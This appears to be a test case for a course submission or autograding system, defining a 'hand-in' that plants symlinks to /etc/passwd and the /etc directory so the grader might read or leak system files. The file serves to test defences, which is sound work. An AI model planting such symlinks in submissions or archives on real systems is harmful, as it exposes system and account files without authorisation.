# /// attack
# title = "Hand in a link to a file of the system"
# lab = "01-sgd"
# class = "archive tricks"
# fails = []
# flags = ["files"]
# ///

# %% role="hand-in"

(folder / "data.txt").symlink_to("/etc/passwd")
(folder / "more").symlink_to("/etc")
